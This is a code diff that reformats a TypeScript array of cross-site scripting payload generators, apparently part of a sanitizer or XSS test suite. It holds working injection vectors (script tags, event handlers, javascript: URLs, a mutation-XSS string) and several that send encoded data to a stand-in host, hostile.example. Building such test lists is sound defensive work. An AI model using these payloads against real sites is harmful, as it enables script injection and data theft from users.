@@ -18,11 +18,13 @@ const WAYS: readonly ((deed: string) => string)[] = [
   (deed) => `<script>${deed}</script>`,
   (deed) => `<ScRiPt >${deed}</ScRiPt >`,
   (deed) => `<img src=x onerror="${deed}">`,
-  (deed) => `<img src="https://hostile.example/pixel.png" srcset="https://hostile.example/pixel2.png 2x" onload="${deed}">`,
+  (deed) =>
+    `<img src="https://hostile.example/pixel.png" srcset="https://hostile.example/pixel2.png 2x" onload="${deed}">`,
   (deed) => `<svg onload="${deed}"></svg>`,
   (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s></svg>`,
   (deed) => `<svg><script>${deed}</script></svg>`,
-  (deed) => `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${escaped(deed)}>">`,
+  (deed) =>
+    `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${escaped(deed)}>">`,
   (deed) => `<iframe srcdoc="<script>${escaped(deed)}</script>"></iframe>`,
   (deed) => `<iframe src="javascript:${deed}"></iframe>`,
   (deed) => `<object data="data:text/html;base64,${inBase64(deed)}"></object>`,
@@ -36,8 +38,10 @@ const WAYS: readonly ((deed: string) => string)[] = [
   (deed) => `<a href="javascript:${deed}" ping="https://hostile.example/ping">press</a>`,
   (deed) => `<meta http-equiv="refresh" content="0;url=https://hostile.example/meta?${encoded(deed)}">`,
   (deed) => `<base href="https://hostile.example/"><script src="${encoded(deed)}.js"></script>`,
-  (deed) => `<link rel="stylesheet" href="https://hostile.example/style.css?${encoded(deed)}"><link rel="preconnect" href="https://hostile.example/">`,
-  (deed) => `<style>@import "https://hostile.example/import.css?${encoded(deed)}"; *{background:url(https://hostile.example/background.png)}</style>`,
+  (deed) =>
+    `<link rel="stylesheet" href="https://hostile.example/style.css?${encoded(deed)}"><link rel="preconnect" href="https://hostile.example/">`,
+  (deed) =>
+    `<style>@import "https://hostile.example/import.css?${encoded(deed)}"; *{background:url(https://hostile.example/background.png)}</style>`,
   (deed) => `<div style="background:url('https://hostile.example/inline.png');animation:x" onanimationstart="${deed}">`,
   (deed) => `<template><script>${deed}</script></template><slot name="${deed}">`,
   // breaking out of what surrounds it
